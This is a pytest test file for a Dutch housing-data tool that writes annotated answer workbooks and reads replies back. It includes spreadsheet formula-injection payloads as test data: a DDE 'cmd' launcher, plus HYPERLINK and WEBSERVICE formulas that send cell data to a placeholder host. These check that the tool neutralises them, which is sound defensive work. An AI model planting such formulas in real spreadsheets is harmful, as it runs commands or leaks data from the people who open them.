"""The answer to a delivery: what is marked, what stays, what is lost, and that text stays text."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from leverhulp import ingevuld
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.packaging.relationship import Relationship
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
from openpyxl.worksheet.datavalidation import DataValidation

from woonanalyse.kern.beeld.huisstijl import MELDINGEN
from woonanalyse.leveringen.antwoord import meldingenblad
from woonanalyse.leveringen.antwoord.gegeven import koppel
from woonanalyse.leveringen.antwoord.werkboek import Antwoord, antwoordpad, maak_antwoord
from woonanalyse.leveringen.levering import Cel, Melding
from woonanalyse.leveringen.openen.bewaking import Bekeken, bekijk
from woonanalyse.leveringen.openen.boek import Blad, Boek

FOUT = Melding(
    "fout", "proef_getal", (Cel("Plannen", 3, "G"),), "1.39", "een geheel getal", "bedoelt u 139?", "totaal"
)  # fmt: skip
GROEI = Melding(
    "waarschuwing", "proef_groei", (Cel("Plannen", 2, "I"), Cel("Plannen", 2, "B")), "100", "ongeveer 10",
    "kijk na", "rest",
)  # fmt: skip
NOTITIE = Melding(
    "notitie", "proef_notitie", (Cel("Plannen", 1, "A"),), "", "een kolom is overgeslagen", ""
)
ALLE = (NOTITIE, GROEI, FOUT)


def bekeken(map_: Path, ruw: bytes, naam: str = "levering.xlsx") -> Bekeken:
    pad = map_ / naam
    pad.write_bytes(ruw)
    return bekijk(pad)


def antwoord(map_: Path, ruw: bytes, meldingen: tuple[Melding, ...] = ALLE) -> Antwoord:
    return maak_antwoord(bekeken(map_, ruw), None, meldingen, {})


def gekleurd(ruw: bytes, blad: str = "Plannen") -> dict[str, str]:
    """By cell that we mark, the colour."""
    gevonden: dict[str, str] = {}
    for gebied in load_workbook(BytesIO(ruw))[blad].conditional_formatting:
        for regel in gebied.rules:
            if "woonanalyse" in "".join(regel.formula):
                kleur = regel.dxf.fill.bgColor.rgb[-6:]
                gevonden |= dict.fromkeys(str(gebied.sqref).split(), kleur)
    return gevonden


def regels(ruw: bytes) -> list[tuple[object, ...]]:
    return list(load_workbook(BytesIO(ruw))["Meldingen"].iter_rows(values_only=True))


def test_cells_are_marked_by_kind_and_say_in_a_note_what_was_expected(tmp_path: Path) -> None:
    uit = antwoord(tmp_path, ingevuld()).inhoud
    rood, geel = (MELDINGEN[soort].removeprefix("#") for soort in ("fout", "waarschuwing"))
    assert gekleurd(uit) == {"G3": rood, "I2": geel, "B2": geel}
    blad = load_workbook(BytesIO(uit))["Plannen"]
    notitie = blad["G3"].comment.text
    assert all(deel in notitie for deel in ("1.39", "een geheel getal", "bedoelt u 139?"))
    assert blad["A1"].comment is None


def test_the_sheet_names_every_message_errors_first_with_a_link_to_its_cell(tmp_path: Path) -> None:
    uit = antwoord(tmp_path, ingevuld()).inhoud
    rijen = regels(uit)
    kop = rijen.index(tuple(meldingenblad.KOPPEN))
    assert rijen[kop + 1][:8] == (
        "fout", "Plannen", 3, "G (totaal)", "1.39", "een geheel getal", "bedoelt u 139?", "proef_getal",
    )  # fmt: skip
    assert [rij[0] for rij in rijen[kop + 1 :]] == ["fout", "waarschuwing", "notitie"]
    boek = load_workbook(BytesIO(uit))
    assert boek["Meldingen"].cell(kop + 2, 3).hyperlink.location == "'Plannen'!G3"
    assert boek.active.title == "Meldingen"
    assert "1 fout, 1 waarschuwing en 1 notitie" in str(rijen[0][0])


def test_what_the_municipality_made_stays(tmp_path: Path) -> None:
    boek = load_workbook(BytesIO(ingevuld()))
    blad = boek["Plannen"]
    blad["C2"].font, blad["C2"].fill = Font(bold=True), PatternFill("solid", fgColor="00FF00")
    blad["C2"].comment = Comment("Bellen met Jan", "Jan")
    blad["I2"] = "=G2-H2"
    blad.column_dimensions["C"].width = 55
    blad.add_data_validation(DataValidation("whole", sqref="Z9"))
    boek.create_sheet("Kladblad")["A1"] = "eigen rekenwerk"
    doel = BytesIO()
    boek.save(doel)
    nieuw = load_workbook(BytesIO(antwoord(tmp_path, doel.getvalue()).inhoud))
    blad = nieuw["Plannen"]
    assert blad["C2"].font.bold and blad["C2"].fill.fgColor.rgb[-6:] == "00FF00"
    assert blad["C2"].comment.text == "Bellen met Jan"
    assert blad["I2"].value == "=G2-H2" and blad.column_dimensions["C"].width == 55
    assert "Z9" in {str(v.sqref) for v in blad.data_validations.dataValidation}
    assert nieuw["Kladblad"]["A1"].value == "eigen rekenwerk"
    assert nieuw.sheetnames[:-1] == [*load_workbook(doel).sheetnames]


def test_a_note_on_a_cell_that_has_one_comes_below_it_and_goes_again(tmp_path: Path) -> None:
    boek = load_workbook(BytesIO(ingevuld()))
    boek["Plannen"]["G3"].comment = Comment("Bellen met Jan", "Jan")
    doel = BytesIO()
    boek.save(doel)
    eerste = antwoord(tmp_path, doel.getvalue())
    assert load_workbook(BytesIO(eerste.inhoud))["Plannen"]["G3"].comment.text.startswith(
        "Bellen met Jan\n"
    )
    tweede = antwoord(tmp_path, eerste.inhoud, (GROEI,))
    blad = load_workbook(BytesIO(tweede.inhoud))["Plannen"]
    assert blad["G3"].comment.text == "Bellen met Jan"
    assert set(gekleurd(tweede.inhoud)) == {"I2", "B2"}
    assert load_workbook(BytesIO(tweede.inhoud)).sheetnames.count("Meldingen") == 1


def test_the_same_delivery_gives_the_same_bytes(tmp_path: Path) -> None:
    ruw = ingevuld()
    assert antwoord(tmp_path, ruw) == antwoord(tmp_path, ruw)


def test_an_answer_to_an_answer_is_as_if_there_had_been_none(tmp_path: Path) -> None:
    eerste = antwoord(tmp_path, ingevuld())
    assert antwoord(tmp_path, eerste.inhoud).inhoud == eerste.inhoud


FORMULES = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x")', "\t=1"]


@pytest.mark.parametrize("tekst", FORMULES)
def test_what_looks_like_a_formula_is_text_in_the_answer(tmp_path: Path, tekst: str) -> None:
    melding = Melding("fout", tekst, (Cel("Plannen", 2, "C"),), tekst, tekst, tekst, tekst)
    uit = antwoord(tmp_path, ingevuld(), (melding,)).inhoud
    blad = load_workbook(BytesIO(uit))["Meldingen"]
    assert {cel.data_type for rij in blad.iter_rows() for cel in rij if cel.value is not None} <= {
        "s",
        "n",
    }
    assert tekst in {cel.value for rij in blad.iter_rows() for cel in rij}


@pytest.mark.parametrize("tekst", FORMULES)
def test_what_looks_like_a_formula_in_a_csv_is_text_in_the_new_workbook(
    tmp_path: Path, tekst: str
) -> None:
    boek = Boek("csv", [Blad("", [["plan_id", "naam"], ["P1", tekst]])])
    uit = maak_antwoord(bekeken(tmp_path, b"plan_id,naam\n", "l.csv"), boek, (), {}).inhoud
    cel = load_workbook(BytesIO(uit))["Gegevens"]["B2"]
    assert (cel.value, cel.data_type) == (tekst, "s")


def test_a_csv_becomes_a_workbook_with_the_same_cells_marked_by_the_name_of_the_column(
    tmp_path: Path,
) -> None:
    boek = Boek("csv", [Blad("", [["plan_id", "totaal"], ["P1", "1.39"]])])
    fout = Melding("fout", "x", (Cel("", 2, "totaal"),), "1.39", "een geheel getal", "")
    uit = maak_antwoord(
        bekeken(tmp_path, b"plan_id,totaal\nP1,1.39\n", "l.csv"), boek, (fout,), {}
    ).inhoud
    assert set(gekleurd(uit, "Gegevens")) == {"B2"}
    assert load_workbook(BytesIO(uit))["Gegevens"]["B2"].value == "1.39"
    assert regels(uit)[-1][1:4] == ("Gegevens", 2, "B (totaal)")


def test_an_answer_to_a_warning_of_a_csv_holds_for_the_csv_and_for_the_workbook_made_of_it(
    tmp_path: Path,
) -> None:
    boek = Boek("csv", [Blad("", [["plan_id", "totaal"], ["P1", "100"]])])
    in_csv = Melding("waarschuwing", "x", (Cel("", 2, "totaal"),), "100", "minder", "", "totaal")
    in_boek = Melding(
        "waarschuwing", "x", (Cel("Gegevens", 2, "B"),), "100", "minder", "", "totaal"
    )
    csv = bekeken(tmp_path, b"plan_id,totaal\nP1,100\n", "l.csv")
    terug = ingevuld_antwoord(maak_antwoord(csv, boek, (in_csv,), {}).inhoud, "x", "klopt")
    assert gekoppeld(tmp_path, terug, in_csv) == {in_csv: "klopt"}
    assert gekoppeld(tmp_path, terug, in_boek) == {in_boek: "klopt"}


def test_a_geojson_gets_a_workbook_with_the_messages_alone(tmp_path: Path) -> None:
    fout = Melding("fout", "x", (Cel("", 2, "geometry"),), "", "een vlak", "")
    uit = maak_antwoord(bekeken(tmp_path, b"{}", "p.geojson"), None, (fout,), {}).inhoud
    assert load_workbook(BytesIO(uit)).sheetnames == ["Meldingen"]


def test_control_characters_and_a_value_of_any_length_do_not_break_the_workbook(
    tmp_path: Path,
) -> None:
    lelijk = "plan\x08\x1b[31m\u202e" + "x" * 40_000
    melding = Melding("fout", "x", (Cel("Plannen", 2, "C"),), lelijk, lelijk, lelijk, "naam")
    uit = antwoord(tmp_path, ingevuld(), (melding,)).inhoud
    gevonden = str(regels(uit)[-1][4])
    assert gevonden.startswith(r"plan\u0008\u001b[31m\u202ex") and len(gevonden) <= 32_000


def met_deel(ruw: bytes, naam: str, inhoud: bytes = b"x") -> bytes:
    doel = BytesIO(ruw)
    with ZipFile(doel, "a") as archief:
        archief.writestr(naam, inhoud)
    return doel.getvalue()


@pytest.mark.parametrize(("deel", "inhoud", "wat"), [
    ("xl/vbaProject.bin", b"x", "macro's"),
    ("xl/externalLinks/externalLink9.xml", b"<a/>", "verwijzingen naar andere werkboeken"),
    ("xl/threadedComments/threadedComment1.xml", b"<a/>", "gesprekken bij cellen"),
    ("xl/drawings/drawing9.xml", b"<xdr:sp macro=''/>", "tekstvakken en vormen"),
])  # fmt: skip
def test_what_the_answer_lacks_is_said_in_it(
    tmp_path: Path, deel: str, inhoud: bytes, wat: str
) -> None:
    uit = antwoord(tmp_path, met_deel(ingevuld(), deel, inhoud))
    assert any(wat in een for een in uit.verloren)
    assert any(wat in str(rij[0]) for rij in regels(uit.inhoud))
    with ZipFile(BytesIO(uit.inhoud)) as archief:
        assert deel not in archief.namelist()


@pytest.mark.parametrize(
    "formule", ["=[1]Blad1!A1", "='[1]B'!A1", '=WEBSERVICE("http://x?"&A2)', "=cmd|'/c calc'!A0"]
)
def test_a_formula_that_looks_outside_becomes_its_last_outcome(
    tmp_path: Path, formule: str
) -> None:
    boek = load_workbook(BytesIO(ingevuld()))
    boek["Plannen"]["P2"], boek["Plannen"]["Q2"] = formule, "=G2-H2"
    doel = BytesIO()
    boek.save(doel)
    uit = antwoord(tmp_path, doel.getvalue())
    blad = load_workbook(BytesIO(uit.inhoud))["Plannen"]
    assert (blad["P2"].value, blad["Q2"].value) == (None, "=G2-H2")
    assert any("buiten het werkboek" in een for een in uit.verloren)


def test_a_workbook_that_can_be_read_but_not_changed_is_answered_with_its_values(
    tmp_path: Path,
) -> None:
    with ZipFile(BytesIO(ingevuld())) as archief:
        delen = {naam: archief.read(naam) for naam in archief.namelist()}
    blad = "xl/worksheets/sheet1.xml"
    delen[blad] = re.sub(rb'(<c r="C2")[^>]*?( t="\w+")?>', rb'\1 s="9999"\2>', delen[blad])
    assert b's="9999"' in delen[blad]
    doel = BytesIO()
    with ZipFile(doel, "w") as archief:
        for naam, inhoud in delen.items():
            archief.writestr(naam, inhoud)
    uit = antwoord(tmp_path, doel.getvalue())
    assert any("niet helemaal gaaf" in een for een in uit.verloren)
    assert set(gekleurd(uit.inhoud)) == {"G3", "I2", "B2"}
    assert load_workbook(BytesIO(uit.inhoud))["Plannen"]["C2"].value == "De Bornsche Maten, fase 4"


def test_a_link_to_another_workbook_is_not_sent_back(tmp_path: Path) -> None:
    boek = load_workbook(BytesIO(ingevuld()))
    link = ExternalLink(externalBook=ExternalBook())
    link.file_link = Relationship(type="externalLinkPath", Target="http://x/g.xlsx", Id="rId1")
    boek._external_links.append(link)
    boek["Plannen"]["P2"] = "=[1]Blad1!A1"
    doel = BytesIO()
    boek.save(doel)
    assert any("externalLink" in naam for naam in ZipFile(doel).namelist())
    uit = antwoord(tmp_path, doel.getvalue())
    assert not any("externalLink" in naam for naam in ZipFile(BytesIO(uit.inhoud)).namelist())
    assert "verwijzingen naar andere werkboeken" in uit.verloren


def test_a_sheet_of_their_own_called_meldingen_stays(tmp_path: Path) -> None:
    boek = load_workbook(BytesIO(ingevuld()))
    boek.create_sheet("Meldingen")["A1"] = "onze meldingen"
    doel = BytesIO()
    boek.save(doel)
    nieuw = load_workbook(BytesIO(antwoord(tmp_path, doel.getvalue()).inhoud))
    assert (
        nieuw["Meldingen"]["A1"].value == "onze meldingen" and "Meldingen (2)" in nieuw.sheetnames
    )


def test_a_message_about_a_merged_cell_marks_its_block(tmp_path: Path) -> None:
    boek = load_workbook(BytesIO(ingevuld()))
    boek["Plannen"].merge_cells("F3:H3")
    doel = BytesIO()
    boek.save(doel)
    assert set(gekleurd(antwoord(tmp_path, doel.getvalue(), (FOUT,)).inhoud)) == {"F3"}


# Where it goes, and what comes back in it


def test_an_answer_that_someone_worked_in_is_never_written_over(tmp_path: Path) -> None:
    pad = tmp_path / "levering.xlsx"
    doel = antwoordpad(pad)
    assert doel.name == "levering-antwoord.xlsx"
    uit = antwoord(tmp_path, ingevuld()).inhoud
    doel.write_bytes(uit)
    assert antwoordpad(pad) == doel
    load_workbook(BytesIO(uit)).save(doel)
    assert antwoordpad(pad).name == "levering-antwoord-2.xlsx"
    assert antwoordpad(doel).name == "levering-antwoord-2.xlsx"


def test_files_that_differ_by_kind_alone_have_an_answer_each(tmp_path: Path) -> None:
    namen = [
        antwoordpad(tmp_path / f"plannen.{soort}").name for soort in ("xlsx", "csv", "geojson")
    ]
    assert len(set(namen)) == 3 and all(naam.endswith("-antwoord.xlsx") for naam in namen)


def ingevuld_antwoord(uit: bytes, code: str, tekst: str) -> bytes:
    boek = load_workbook(BytesIO(uit))
    for rij in boek["Meldingen"].iter_rows():
        if rij[7].value == code:
            rij[8].value = tekst
            rij[8].data_type = "s"
    doel = BytesIO()
    boek.save(doel)
    return doel.getvalue()


def gekoppeld(map_: Path, uit: bytes, *meldingen: Melding) -> dict[Melding, str]:
    return koppel(meldingen, meldingenblad.lees(bekeken(map_, uit, "terug.xlsx").inhoud)[0])


def test_an_answer_to_a_warning_is_read_back_and_stands_in_the_next_answer(tmp_path: Path) -> None:
    uit = ingevuld_antwoord(
        antwoord(tmp_path, ingevuld()).inhoud, "proef_groei", "=klopt, nieuw besluit"
    )
    antwoorden = gekoppeld(tmp_path, uit, *ALLE)
    assert antwoorden == {GROEI: "=klopt, nieuw besluit"}
    weer = maak_antwoord(bekeken(tmp_path, uit), None, ALLE, antwoorden).inhoud
    assert gekoppeld(tmp_path, weer, *ALLE) == antwoorden


def test_an_answer_counts_for_the_value_that_was_found_and_follows_a_row_that_moved(
    tmp_path: Path,
) -> None:
    uit = ingevuld_antwoord(antwoord(tmp_path, ingevuld()).inhoud, "proef_groei", "klopt")
    anders = Melding(**(GROEI.__dict__ | {"gevonden": "200"}))
    verschoven = Melding(**(GROEI.__dict__ | {"cellen": (Cel("Plannen", 7, "I"),)}))
    ook = Melding(**(GROEI.__dict__ | {"cellen": (Cel("Plannen", 8, "I"),)}))
    assert gekoppeld(tmp_path, uit, anders) == {}
    assert gekoppeld(tmp_path, uit, verschoven) == {verschoven: "klopt"}
    assert gekoppeld(tmp_path, uit, verschoven, ook) == {}


def test_an_error_cannot_be_answered_away(tmp_path: Path) -> None:
    uit = ingevuld_antwoord(antwoord(tmp_path, ingevuld()).inhoud, "proef_getal", "laat maar zo")
    assert gekoppeld(tmp_path, uit, *ALLE) == {}


def test_a_workbook_with_the_messages_alone_is_known_as_such(tmp_path: Path) -> None:
    alleen = maak_antwoord(bekeken(tmp_path, b"{}", "p.geojson"), None, (GROEI,), {}).inhoud
    assert meldingenblad.lees(alleen) == ([], True)
    assert meldingenblad.lees(antwoord(tmp_path, ingevuld()).inhoud)[1] is False
    leeg = BytesIO()
    Workbook().save(leeg)
    assert meldingenblad.lees(leeg.getvalue())[1] is False
